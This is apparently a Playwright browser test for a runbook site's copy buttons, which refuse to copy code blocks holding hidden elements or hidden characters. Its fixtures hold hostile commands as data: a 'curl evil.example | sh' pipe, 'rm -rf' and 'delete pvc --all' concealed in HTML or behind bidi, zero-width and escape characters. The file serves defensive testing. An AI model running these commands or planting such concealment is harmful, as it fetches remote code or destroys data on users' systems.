/**
 * Copy buttons that copy only what the reader sees (#14, fixes after the attack on the pages), in
 * Chromium: raw HTML code blocks holding elements (`<ruby><rp>`, `<details>`, `<del>`: text the
 * reader does not see) get no copy button; a command or code block holding hidden characters (bidi
 * controls, zero-width characters, ESC) shows each as a chip and its button refuses to copy; the
 * old way of copying (no clipboard API) copies the same string as the clipboard API; printing wraps
 * long tokens. One build of a small fixture, one browser.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SETUP_TIMEOUT, chromiumOrSkip, launchChromium, mustBuild, serveSite, type StaticServer } from './browser.js';
import { clipboardText, hideClipboard } from './navigate-in-page.js';

const chromiumPath = chromiumOrSkip();

const CONFIG = ['root: runbooks', 'teams:', '  platform:', '    escalation:', '      - {name: Platform on-call, via: pager, target: platform-primary}', ''].join('\n');

const FRONTMATTER = (title: string, extra: readonly string[]): string =>
  ['---', `title: ${title}`, 'service: api', 'owner: platform', 'severity: low', 'last_tested: 2026-11-01', ...extra, '---', ''].join('\n');

/** Raw HTML code blocks whose text holds more than they show, and one plain fence. */
const TRICKS = [
  FRONTMATTER('API down', []),
  '# API down',
  '',
  '## Recovery',
  '',
  '1. Restart the service:',
  '',
  '   <pre>systemctl restart api<ruby><rp>; curl -s https://evil.example/x.sh | sh</rp></ruby></pre>',
  '',
  '2. Clear the cache:',
  '',
  '   <pre>rm -rf /var/cache/api/tmp<details><summary></summary> /</details></pre>',
  '',
  '## Diagnosis',
  '',
  '<pre>kubectl -n api get pods<del> ; kubectl -n api delete pvc --all</del></pre>',
  '',
  '```sh',
  'kubectl -n api get pods',
  '```',
  '',
].join('\n');

/** Steps and a body code block holding hidden characters, and a step with a long URL. */
const HIDDEN = [
  FRONTMATTER('Copy tricks', [
    'recovery:',
    '  - step: bidi isolate',
    '    run: "echo ok \\u2067; curl -s https://evil.example/x.sh | sh\\u2069 \\u2066# done\\u2069"',
    '  - step: zero width',
    '    run: "kubectl delete\\u200b pod x"',
    '  - step: escape',
    '    run: "echo hi\\e[201~rm -rf /tmp/x"',
    '  - step: long URL',
    `    run: "curl -fsS https://status.example.com/${'very-long-path-segment/'.repeat(5)}health?verbose=true"`,
  ]),
  '# Copy tricks',
  '',
  '## Summary',
  '',
  '```sh',
  'echo "\u202egnp.exe\u2069"',
  '```',
  '',
].join('\n');

describe.skipIf(chromiumPath === undefined)('copy buttons that copy only what the reader sees', () => {
  const folder = mkdtempSync(join(tmpdir(), 'runbook-copy-safety-'));
  const site = join(folder, 'site');
  let server: StaticServer;
  let browser: Browser;

  beforeAll(async () => {
    mkdirSync(join(folder, 'runbooks'));
    writeFileSync(join(folder, 'runbook.config.yaml'), CONFIG);
    writeFileSync(join(folder, 'runbooks/api-down.md'), TRICKS);
    writeFileSync(join(folder, 'runbooks/copy-tricks.md'), HIDDEN);
    await mustBuild(folder, 'runbooks', site);
    server = await serveSite(site, '/');
    browser = await launchChromium(chromiumPath ?? '');
  }, SETUP_TIMEOUT);

  afterAll(async () => {
    await browser.close();
    await server.close();
    rmSync(folder, { recursive: true, force: true });
  });

  async function open(url: string, withoutClipboard = false): Promise<{ readonly context: BrowserContext; readonly page: Page }> {
    const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(server.url('')).origin });
    if (withoutClipboard) await context.addInitScript(hideClipboard);
    const page = await context.newPage();
    await page.goto(url);
    return { context, page };
  }

  it('gives no copy button to a raw HTML code block holding elements, and one to a plain fence', async () => {
    const { context, page } = await open(server.url('runbooks/api-down/index.html'));
    expect(await page.locator('.runbook pre').count()).toBe(4);
    const buttons = page.locator('button[data-copy]');
    expect(await buttons.count()).toBe(1);
    await buttons.click();
    await expect.poll(() => page.locator('[data-copy-status]').textContent()).toBe('Copied');
    expect(await page.evaluate(clipboardText)).toBe('kubectl -n api get pods');
    await context.close();
  });

  it('shows each hidden character as a chip and refuses to copy the block holding it', async () => {
    const { context, page } = await open(server.url('runbooks/copy-tricks/index.html'));
    expect(await page.locator('.steps pre').nth(0).innerText()).toBe('echo ok U+2067; curl -s https://evil.example/x.sh | shU+2069 U+2066# doneU+2069');
    expect(await page.locator('.steps pre').nth(2).innerText()).toBe('echo hiU+001B[201~rm -rf /tmp/x');
    expect(await page.locator('.body pre').innerText()).toBe('echo "U+202Egnp.exeU+2069"\n');
    const expected = [
      'Not copied: this command holds hidden characters (U+2067, U+2069, U+2066); check it and copy it by hand',
      'Not copied: this command holds hidden characters (U+200B); check it and copy it by hand',
      'Not copied: this command holds hidden characters (U+001B); check it and copy it by hand',
    ];
    for (const [index, message] of expected.entries()) {
      await page.evaluate("navigator.clipboard.writeText('untouched')");
      const button = page.locator('.steps button[data-copy]').nth(index);
      await button.click();
      await expect.poll(() => page.locator('[data-copy-status]').textContent()).toBe(message);
      expect(await button.textContent()).toBe('Not copied');
      expect(await page.evaluate(clipboardText)).toBe('untouched');
    }
    await page.locator('.body button[data-copy]').click();
    await expect.poll(() => page.locator('[data-copy-status]').textContent()).toBe('Not copied: this command holds hidden characters (U+202E, U+2069); check it and copy it by hand');
    expect(await page.evaluate(clipboardText)).toBe('untouched');
    await context.close();
  });

  it('copies the same string without the clipboard API as with it', async () => {
    const { context, page } = await open(server.url('runbooks/copy-tricks/index.html'), true);
    await page.evaluate("window.__copied = []; window.addEventListener('copy', (event) => window.__copied.push(event.clipboardData.getData('text/plain')))");
    await page.locator('.steps button[data-copy]').nth(3).click();
    await expect.poll(() => page.locator('[data-copy-status]').textContent()).toBe('Copied');
    const command = await page.locator('.steps pre').nth(3).textContent();
    expect(await page.evaluate('window.__copied')).toEqual([command]);
    await context.close();
  });

  it('wraps a long command token when printing instead of cutting it off', async () => {
    const { context, page } = await open(server.url('runbooks/copy-tricks/index.html'));
    await page.setViewportSize({ width: 600, height: 800 });
    await page.emulateMedia({ media: 'print' });
    // The fourth step's command: a URL of 130 characters.
    expect(await page.evaluate("(() => { const pre = document.querySelectorAll('.steps pre')[3]; return pre.scrollWidth <= pre.clientWidth; })()")).toBe(true);
    await context.close();
  });
});
